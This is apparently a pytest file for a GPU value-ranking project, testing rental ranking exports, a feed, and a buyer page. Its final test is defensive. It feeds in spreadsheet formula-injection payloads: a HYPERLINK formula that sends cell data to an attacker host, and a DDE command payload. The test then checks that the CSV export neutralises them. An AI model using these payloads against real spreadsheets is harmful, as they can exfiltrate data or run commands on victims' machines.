"""The rental ranking in the outputs: its export files (CSV, JSON against its schema, Parquet, the
rent-or-buy CSV), its feed item and the buyer's page's rent or buy and rental table. Real DuckDB, no Prefect."""

from __future__ import annotations

import csv
import json
from datetime import datetime, timezone

import jsonschema
import pyarrow.parquet as pq
import pytest
from bs4 import BeautifulSoup

from conftest_exports import insert_dicts, make_ranking_database
from gpuvalue.models.rent_vs_buy import Assumptions
from gpuvalue.warehouse.outputs.export import export_all
from gpuvalue.warehouse.outputs.feed import export_feed
from gpuvalue.warehouse.outputs.rental_export import RENT_VS_BUY_COLUMNS, RENTAL_COLUMNS, rental_feed_item, rental_rows
from gpuvalue.warehouse.outputs.buyer_page import page_data, render_page
from rental_fixtures import make_rental_database

GENERATED = datetime(2026, 11, 30, 7, 0, tzinfo=timezone.utc)


@pytest.fixture
def con():
    c = make_rental_database()
    # A run of a rental source, as the flow records it: its kind reaches the ranking's sources.
    insert_dicts(c, "runs", [{"run_id": "r1", "source": "skypilot-catalog", "stage": "rental", "as_of": datetime(2024, 5, 9).date(),
                              "replay": True, "started_at": datetime(2024, 5, 9, 6), "finished_at": datetime(2024, 5, 9, 6, 1),
                              "status": "ok", "rows": 921, "error": None}])
    yield c
    c.close()


def test_export_all_adds_the_rental_file_set(con, tmp_path):
    a = Assumptions(holding_months=36, hours_per_week=20)
    paths = export_all(con, tmp_path, generated_at=GENERATED, rent_assumptions=a)
    assert {k: p.name for k, p in paths.items() if k.startswith("ren")} == {
        "rental_csv": "rental_ranking.csv", "rental_json": "rental_ranking.json",
        "rental_schema": "rental_ranking.schema.json", "rental_parquet": "rental_ranking.parquet",
        "rent_vs_buy_csv": "rent_vs_buy.csv"}
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in paths.values())

    document = json.loads(paths["rental_json"].read_text())
    jsonschema.validate(document, json.loads(paths["rental_schema"].read_text()))
    assert document["as_of"] == "2025-02-01" and document["reference_gpu"] == "GeForce RTX 3090"
    assert document["assumptions"] == {"holding_months": 36, "resale_fraction": 0.5, "kwh_price_usd": 0.15, "hours_per_week": 20}
    assert [r["model"] for r in document["rows"]] == ["GeForce RTX 3090", "GeForce RTX 4090", "RTX A6000",
                                                      "Tesla V100 PCIe 16 GB"]  # spot-only last, rank null
    assert document["rows"][-1]["rank"] is None and document["rows"][-1]["spot_rank"] == 2
    comparison = {r["model"]: r for r in document["rent_vs_buy"]}
    assert comparison["GeForce RTX 3090"]["used_price_usd"] == 690.0 and comparison["GeForce RTX 3090"]["hours_per_week"] == 20

    with open(paths["rental_csv"], newline="") as fh:
        reader = csv.DictReader(fh)
        rows = list(reader)
    assert tuple(reader.fieldnames) == RENTAL_COLUMNS and len(rows) == 4 and rows[0]["providers"] == "vast"
    with open(paths["rent_vs_buy_csv"], newline="") as fh:
        reader = csv.DictReader(fh)
        compared = list(reader)
    assert tuple(reader.fieldnames) == RENT_VS_BUY_COLUMNS
    assert all(r["holding_months"] == "36.0" and r["resale_fraction"] == "0.5" for r in compared)
    assert pq.read_table(paths["rental_parquet"]).num_rows == 4

    # The ranking's own JSON names the rental source with its kind, and still validates.
    ranking = json.loads(paths["json"].read_text())
    jsonschema.validate(ranking, json.loads(paths["schema"].read_text()))
    assert {"name": "skypilot-catalog", "kind": "rental"}.items() <= next(
        s for s in ranking["sources"] if s["name"] == "skypilot-catalog").items()


def test_a_warehouse_without_rental_prices_exports_what_it_always_did(tmp_path):
    paths = export_all(make_ranking_database(), tmp_path, generated_at=GENERATED)
    assert set(paths) == {"csv", "json", "schema", "feed", "parquet"}


def test_the_feed_carries_one_rental_item_per_rental_date(con, tmp_path):
    export_feed(con, tmp_path / "feed.json")
    feed = json.loads((tmp_path / "feed.json").read_text())
    rental = [i for i in feed["items"] if i["tags"] == ["rental"]]
    assert len(rental) == 1
    item = rental[0]
    assert item["id"] == "gpuvalue:rental-ranking:2025-02-01" and item["date_published"] == "2025-02-01T00:00:00Z"
    assert item["title"] == "Cloud GPU rental ranking, prices of 2025-02-01: #1 GeForce RTX 3090 on vast"
    assert "1. GeForce RTX 3090: $0.20/GPU-hour on vast (price of 2025-01-20)" in item["content_text"]
    assert ("Cheapest reference hour on spot: GeForce RTX 4090 at $0.30/GPU-hour on vast (price of 2025-01-20)."
            in item["content_text"])
    dates = [i["date_published"] for i in feed["items"]]
    assert dates == sorted(dates, reverse=True)
    # Written again, the same item: nothing is announced twice.
    export_feed(con, tmp_path / "again.json")
    assert json.loads((tmp_path / "again.json").read_text())["items"] == feed["items"]
    assert rental_feed_item([]) is None


def test_the_feed_without_rental_prices_has_no_rental_item(tmp_path):
    export_feed(make_ranking_database(), tmp_path / "feed.json")
    assert not [i for i in json.loads((tmp_path / "feed.json").read_text())["items"] if i["tags"] == ["rental"]]


def _buy_models(data) -> set[str]:
    return {o["model"] for o in data.rent["options"] if o["action"] == "buy"}


def test_the_page_adds_rent_or_buy_and_the_rental_table(con):
    data = page_data(con, generated_at=GENERATED)
    page = BeautifulSoup(render_page(data), "lxml")
    assert data.rent["answers"] and len(data.rent["index"]) > len(data.rent["answers"])
    assert {o["model"] for o in data.rent["options"] if o["action"] == "rent"} <= {
        "GeForce RTX 3090", "GeForce RTX 4090", "RTX A6000"}
    rows = page.select("table.rental tbody tr")
    assert len(rows) == 3 and "$0.200" in page.select_one("table.rental").get_text()
    assert all(" old" in row.get_text(" ") for row in rows)


def test_the_cards_rent_or_buy_may_buy_are_cards_the_page_shows(con):
    """A passive card or one under 6 GB is not in the page's ranking, so it is no card to buy either."""
    before = sorted(_buy_models(page_data(con, generated_at=GENERATED)))
    con.execute("UPDATE ranking_daily SET passive = true WHERE model = ?", [before[0]])
    try:
        after = _buy_models(page_data(con, generated_at=GENERATED))
    finally:
        con.execute("UPDATE ranking_daily SET passive = false WHERE model = ?", [before[0]])
    assert before[0] not in after


def test_the_page_without_rental_prices_says_so():
    data = page_data(make_ranking_database(), generated_at=GENERATED)
    assert data.rent["answers"] == [] and data.rental == []
    assert "No rental prices in the warehouse yet." in render_page(data)


def test_rental_rows_are_the_ranking_in_export_order(con):
    rows = rental_rows(con)
    assert [r["rank"] for r in rows] == [1, 2, 3, None] and tuple(rows[0]) == RENTAL_COLUMNS


def test_the_rental_files_say_each_prices_tier_age_and_support_as_rent_json_does(con, tmp_path):
    """The exported rows lacked price_tier and the ages: an older price ranked after a $10 one with
    nothing in the file to say why; and only the old framework flag, where rent --json has the level."""
    from rental_fixtures import load_offers, offer
    from datetime import date

    load_offers(con, [offer("cloud-c", "oldcloud", "RX 7900 XTX", "Radeon RX 7900 XTX", date(2024, 6, 1),
                            per_hour=0.01)], "cloud-c")
    con.execute("UPDATE gpus SET framework_support = 'current' WHERE model = 'GeForce RTX 3090'")
    paths = export_all(con, tmp_path, generated_at=GENERATED)
    document = json.loads(paths["rental_json"].read_text())
    jsonschema.validate(document, json.loads(paths["rental_schema"].read_text()))
    rows = {r["model"]: r for r in document["rows"]}
    assert (rows["Radeon RX 7900 XTX"]["price_tier"], rows["Radeon RX 7900 XTX"]["price_age_days"]) == ("older", 245)
    assert rows["GeForce RTX 3090"]["price_tier"] == "recent" and rows["GeForce RTX 3090"]["framework_support"] == "current"
    with open(paths["rental_csv"], newline="") as fh:
        assert {"price_tier", "price_age_days", "spot_tier", "spot_age_days", "framework_support"} <= set(
            csv.DictReader(fh).fieldnames)


def test_no_published_csv_cell_is_a_spreadsheet_formula(tmp_path):
    """A provider or GPU name someone else wrote ("=HYPERLINK(...)", RunPod's displayName, an FSDL
    provider) reaches every CSV as text a spreadsheet shows, never as a formula it runs."""
    from rental_fixtures import JAN_B, load_offers, offer

    hostile = '=HYPERLINK("http://attacker.invalid/?d="&A1,"cheap")'
    con = make_rental_database()
    load_offers(con, [offer("cloud-c", hostile, "@SUM(1+1)", "GeForce RTX 3090", JAN_B, per_hour=0.15,
                            instance="+cmd|' /C calc'!A0", region="-2+3"),
                      offer("cloud-c", "\t=1+1", "RTX 4090", "GeForce RTX 4090", JAN_B, per_hour=0.40)], "cloud-c")
    paths = export_all(con, tmp_path, generated_at=GENERATED)
    published = [paths["csv"], paths["rental_csv"], paths["rent_vs_buy_csv"]]
    cells = []
    for path in published:
        with open(path, newline="", encoding="utf-8") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the hostile name is shown...
    formulas = [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))
                or (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).isdigit())]
    assert formulas == []  # ...and no cell of any CSV starts a formula
    assert f"'{hostile}" in cells  # shown as the text it is, behind the apostrophe spreadsheets read as "text"
